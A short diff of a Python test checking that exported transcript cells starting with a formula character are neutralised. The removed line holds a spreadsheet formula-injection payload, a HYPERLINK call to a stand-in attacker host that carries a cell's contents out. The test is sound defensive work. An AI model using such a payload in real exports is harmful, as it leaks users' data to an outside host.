@@ -39,7 +39,9 @@ def cfg(tmp_path):
 
 
 def test_formula_cells_are_neutralised_and_numbers_kept(cfg):
-    said = [f'{start}HYPERLINK("http://evil.example/?"&A1) I used two hex keys' for start in FORMULA_START]
+    # the transcript starts with a formula character (the understanding ignores punctuation, so the
+    # command is still logged and its utterance exported as heard)
+    said = [f'{start}I used two hex keys' for start in FORMULA_START]
     for text in said:
         edge("ask", text, "--config", cfg)
     rows = export(cfg)
